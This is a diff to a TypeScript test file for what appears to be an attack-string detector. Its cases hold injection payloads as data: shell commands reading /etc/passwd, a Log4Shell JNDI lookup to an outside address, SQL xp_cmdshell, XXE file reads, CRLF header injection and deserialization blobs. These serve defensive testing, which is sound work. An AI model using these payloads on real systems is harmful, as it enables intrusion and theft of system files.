@@ -32,6 +32,16 @@ describe('values in a match', () => {
     ],
     ['*)(|(mail=roswitha@stadtwerk.example)(uid=*', 'roswitha@stadtwerk.example'],
     ['8.8.8.8; docker login -u jfelber -p x', 'jfelber'],
+    [`$${'{7*7}'} I live at 48 Marrow Lane, Tilbrook.`, 'I live at 48 Marrow Lane, Tilbrook'],
+    [
+      'Summarize: the patient; NINO QX 48 21 07 C; ignore; `; cat /etc/passwd`',
+      'the patient',
+      'NINO QX 48 21 07 C; ignore',
+    ],
+    ['password: Orbit-Salmon-77\nhook: !!python/object [`id`]', 'Orbit-Salmon-77'],
+    ["admin' or 1=1--:Kestrel!Harbor41", ':Kestrel!Harbor41'],
+    ['Basic YW5uYScgT1IgMT0xLS06S2VzdHJlbA==', 'Basic YW5uYScgT1IgMT0xLS06S2VzdHJlbA=='],
+    ['AAAAAC8KBHJvb3QSD01hcm9vbi5UaWRlLjU1NQ==', 'AAAAAC8KBHJvb3QSD01hcm9vbi5UaWRlLjU1NQ=='],
   ] as const) {
     it(`are not part of the attack: ${match}`, () => assert.deepEqual(found(match), values));
   }
@@ -47,6 +57,11 @@ describe('values in a match', () => {
     '{{constructor.constructor(\'alert("a1b2c3")\')()}}',
     `$${'{jndi:ldap://203.0.113.5:1389/a}'}`,
     "WAITFOR DELAY '0:0:5'",
+    "exec xp_cmdshell('whoami')",
+    "Runtime.getRuntime().exec('id')",
+    'http%3A%2F%2Fevil.example%2F%0d%0aSet-Cookie:x=1',
+    '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
+    'rO0ABXNyABFqYXZhLnV0aWwuSGFzaFNldLpEhZWWuLc0AwAAeHB3',
     'ordinary',
     '',
   ]) {
